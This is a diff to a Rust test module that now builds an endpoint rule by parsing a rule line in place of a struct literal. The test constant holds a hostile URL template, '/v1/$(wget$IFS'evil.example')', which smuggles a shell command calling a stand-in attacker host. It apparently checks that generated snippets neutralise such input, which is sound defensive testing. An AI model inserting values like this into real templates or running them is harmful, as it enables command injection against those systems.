@@ -145,9 +145,7 @@ mod tests {
     const HOSTILE: &str = "/v1/$(wget$IFS'evil.example')";
 
     fn hostile(id: &str) -> String {
-        let rule =
-            EndpointRule { method: "GET".to_owned(), template: HOSTILE.to_owned(), query: vec![], headers: vec![] };
-        let rules = crate::validate::endpoint_rules(&[rule]).expect("a rule may look like this");
+        let rules = crate::validate::parse_rule_lines(&format!("GET {HOSTILE}")).expect("a rule may look like this");
         let found = snippets("custom", EDGE, &rules).into_iter().find(|snippet| snippet.id == id);
         found.expect("every platform is there").code
     }
